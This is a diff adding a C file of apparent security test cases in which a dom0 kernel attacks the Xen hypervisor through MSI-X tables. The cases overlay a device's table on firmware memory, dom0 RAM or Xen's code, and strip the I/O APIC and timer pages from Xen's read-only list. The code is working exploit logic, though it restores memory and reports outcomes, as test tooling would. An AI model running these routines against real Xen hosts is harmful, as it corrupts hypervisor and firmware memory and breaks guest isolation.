@@ -1,0 +1,274 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Tables of MSI-X. A device keeps addresses of its interrupts in memory of its
+ * own, and registers in configuration space tell where that is. Xen writes there
+ * itself, to wherever these registers lead.
+ *
+ * The device is a bridge with one interrupt, whose table begins its BAR.
+ */
+#include "machine.h"
+
+#include <xen/physdev.h>
+
+#include "firmware.h"
+#include "frames.h"
+#include "registers.h"
+#include "xen_memory.h"
+
+#define DEVICE  ROOT_PORT
+#define BAR     0x10
+#define COMMAND 0x04
+#define MEMORY  2
+
+#define MSIX         0x11
+#define MSIX_CONTROL 2
+#define MSIX_TABLE   4
+#define MSIX_ENABLE  (1 << 15)
+
+#define ENTRY_SIZE 16
+
+/* Have the device decode at @address; 0: not at all. */
+static void place_device(uint64_t address)
+{
+    const uint32_t command = config_read(DEVICE, COMMAND, 2);
+
+    config_write(DEVICE, COMMAND, 2, command & ~MEMORY);
+    if ( !address )
+        return;
+    config_write(DEVICE, BAR, 4, (uint32_t)address);
+    config_write(DEVICE, COMMAND, 2, command | MEMORY);
+}
+
+static uint64_t device_place(void)
+{
+    return config_read(DEVICE, BAR, 4) & ~0xfU;
+}
+
+/* The register of the capability, 0 if the device is not as it should be. */
+static unsigned int find_msix(void)
+{
+    const unsigned int msix = find_capability(DEVICE, MSIX);
+
+    return msix && !config_read(DEVICE, msix + MSIX_TABLE, 4) ? msix : 0;
+}
+
+/*
+ * Have Xen set up the device's interrupt, with the device at @address, and take
+ * it down again; @meanwhile is asked in between.
+ */
+static bool pv_set_up(uint64_t address, bool (*meanwhile)(void))
+{
+    struct physdev_map_pirq map = { .domid = DOMID_SELF,
+                                    .type = MAP_PIRQ_TYPE_MSI_SEG,
+                                    .index = -1,
+                                    .pirq = -1,
+                                    .devfn = DEVICE & 0xff,
+                                    .table_base = address };
+    struct physdev_unmap_pirq unmap = { .domid = DOMID_SELF };
+    long result;
+    bool seen;
+
+    place_device(address);
+    result = physdev_op(PHYSDEVOP_map_pirq, &map);
+    seen = meanwhile();
+    unmap.pirq = map.pirq;
+    if ( !result )
+        physdev_op(PHYSDEVOP_unmap_pirq, &unmap);
+
+    return seen;
+}
+
+/*
+ * A PVH dom0 writes to the table where the device is, and Xen keeps what it
+ * writes for when the interrupts are switched on.
+ */
+static bool pvh_set_up(uint64_t address, bool (*meanwhile)(void))
+{
+    const unsigned int control = find_msix() + MSIX_CONTROL;
+    const uint32_t before = config_read(DEVICE, control, 2);
+    volatile uint32_t *table;
+    bool seen;
+
+    place_device(device_place());
+    table = map_machine(device_place() / PAGE_SIZE, 1);
+    if ( !table || !can_read(table, 0) )
+        return false;
+    table[0] = 0xfee00000;
+    table[1] = 0;
+    table[2] = 0x41;
+    table[3] = 0;
+    unmap_machine(table, 1);
+
+    place_device(address);
+    config_write(DEVICE, control, 2, before | MSIX_ENABLE);
+    seen = meanwhile();
+    config_write(DEVICE, control, 2, before & ~MSIX_ENABLE);
+
+    return seen;
+}
+
+/* What an attack looks at, and what was there. */
+static volatile uint8_t *target;
+static uint8_t was[ENTRY_SIZE];
+
+static bool target_changed(void)
+{
+    return memcmp((void *)target, was, sizeof(was));
+}
+
+/*
+ * Where the device is a PVH dom0 sees what Xen makes of its table, and not the
+ * memory behind it. See @target through a page of ours, if Xen lets us.
+ */
+static volatile uint8_t *see_elsewhere(uint64_t address)
+{
+    volatile uint8_t *page = map_as_device(address / PAGE_SIZE, 1);
+    const uint8_t before = target[0], other = before ^ 0xff;
+    bool same;
+
+    target[0] = other;
+    same = page[0] == other;
+    target[0] = before;
+    if ( same )
+        return page;
+    unmap_as_device(page, 1);
+
+    return NULL;
+}
+
+/* Aim the table at @address, where @target is seen. */
+static enum outcome aim_table(uint64_t address, const char *what)
+{
+    const uint64_t place = device_place();
+    bool changed;
+
+    if ( !find_msix() || !place )
+        return cannot_try("no device with MSI-X");
+    memcpy(was, (void *)target, sizeof(was));
+    changed = dom0_is_pv() ? pv_set_up(address, target_changed)
+                           : pvh_set_up(address, target_changed);
+    place_device(0);
+    place_device(place);
+    if ( changed )
+        memcpy((void *)target, was, sizeof(was));
+
+    return effect(changed, "%s at %#lx %s", what, address,
+                  changed ? "has become an entry of a table" : "as it was");
+}
+
+/*
+ * K-MSIX-TABLE: have Xen write to the firmware's memory.
+ *
+ * The device is moved over it, and Xen is asked for the device's interrupt.
+ */
+KERNEL_ATTACK("K-MSIX-TABLE", "have Xen write a table into firmware's memory")
+{
+    const uint64_t address = firmware_last(ACPI_NVS);
+
+    volatile uint8_t *page = NULL;
+    enum outcome outcome;
+
+    target = address ? map_machine(address / PAGE_SIZE, 1) : NULL;
+    if ( !target || !can_read(target, 0) )
+        return cannot_try("no memory of the firmware's that could be read");
+
+    if ( !dom0_is_pv() )
+        page = see_elsewhere(address);
+    if ( page )
+        target = page;
+    outcome = aim_table(address, "the firmware's memory");
+    if ( page )
+        unmap_as_device(page, 1);
+
+    return outcome;
+}
+
+/* K-MSIX-RAM: the same with memory; it is dom0's own, so that it can be seen. */
+KERNEL_PV_ATTACK("K-MSIX-RAM", "have Xen write a table into memory",
+                 "what is in a PVH dom0's memory lies elsewhere in the machine")
+{
+    target = buffer(PAGE_SIZE);
+
+    return aim_table(own_frame((void *)target) * PAGE_SIZE, "memory");
+}
+
+/* ---- what Xen lets nobody write ---- */
+
+/*
+ * Xen keeps a list of frames that may be read only: those of tables, while they
+ * are in use, and those of its own devices. A table over a device takes the
+ * device off the list when it is no longer used.
+ */
+static void protect_and_release(uint64_t address)
+{
+    physdev_pci_device_t device = { .devfn = DEVICE & 0xff };
+    const uint64_t place = device_place();
+
+    place_device(address);
+    physdev_op(PHYSDEVOP_prepare_msix, &device);
+    physdev_op(PHYSDEVOP_release_msix, &device);
+    place_device(0);
+    place_device(place);
+}
+
+/* K-MSIX-RO: make the I/O APIC writable. */
+KERNEL_ATTACK_OWN_BOOT("K-MSIX-RO", "take the I/O APIC off Xen's list")
+{
+    if ( !dom0_is_pv() )
+        return not_applicable("PV only: a PVH dom0 has I/O APICs of its own");
+    if ( io_apic_changes() )
+        return cannot_try("the I/O APIC can be written as it is");
+    protect_and_release(0xfec00000);
+
+    return effect_either(io_apic_changes(), "the I/O APIC",
+                         "can be written now", "out of reach");
+}
+
+/* K-MSIX-RO-HPET: make the machine's timers writable. */
+KERNEL_ATTACK_OWN_BOOT("K-MSIX-RO-HPET", "take the timers off Xen's list")
+{
+    if ( !dom0_is_pv() )
+        return not_applicable("PV only: a PVH kernel cannot map them");
+    if ( can_change_machine(HPET_COMPARATOR) )
+        return cannot_try("the timers can be written as they are");
+    protect_and_release(HPET_COMPARATOR & PAGE_MASK);
+
+    return change_machine(HPET_COMPARATOR, "when a timer goes off");
+}
+
+/* ---- beside the table ---- */
+
+static void write_beside_table(uint64_t where, uint32_t word)
+{
+    volatile char *page;
+
+    place_device(where & PAGE_MASK);
+    page = map_machine(where / PAGE_SIZE, 1);
+    if ( page )
+    {
+        store(page + where % PAGE_SIZE, 4, word);
+        unmap_machine(page, 1);
+    }
+}
+
+/*
+ * K-VPCI-PAGE: write to Xen beside a table.
+ *
+ * A PVH dom0 does not reach the page of a device's table; what it reads and
+ * writes there beside the table Xen does for it. With the device over Xen's own
+ * memory, that is where Xen writes.
+ */
+KERNEL_PVH_ATTACK("K-VPCI-PAGE", "have Xen write to its code by a table's page",
+                  "a PV dom0 maps the page itself")
+{
+    const uint64_t place = device_place();
+    enum outcome outcome;
+
+    if ( !find_msix() || !place )
+        return cannot_try("no device with MSI-X");
+    outcome = change_version(write_beside_table);
+    place_device(0);
+    place_device(place);
+
+    return outcome;
+}
